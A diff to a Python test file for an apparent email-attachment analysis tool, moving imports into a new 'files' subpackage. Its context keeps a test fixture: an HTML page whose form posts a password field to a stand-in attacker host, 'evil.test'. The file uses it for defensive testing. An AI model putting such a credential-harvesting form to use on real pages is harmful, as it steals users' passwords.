@@ -7,9 +7,8 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from lazaretto.mail.attached_page import MAX_LINKS, SHORT_PAGE
-from lazaretto.mail.parse import parse
-from lazaretto.mail.scripts import (
+from lazaretto.mail.files.attached_page import MAX_LINKS, SHORT_PAGE
+from lazaretto.mail.files.scripts import (
     MAX_ADDRESSES,
     MAX_LAYERS,
     MAX_SCRIPT,
@@ -18,6 +17,7 @@ from lazaretto.mail.scripts import (
     opened_addresses,
     written_pages,
 )
+from lazaretto.mail.parse import parse
 from tests.unit.mail.letters import file_part, multipart, part
 
 PAGE = "<html><form action='https://evil.test/p'><input type=password></form></html>"
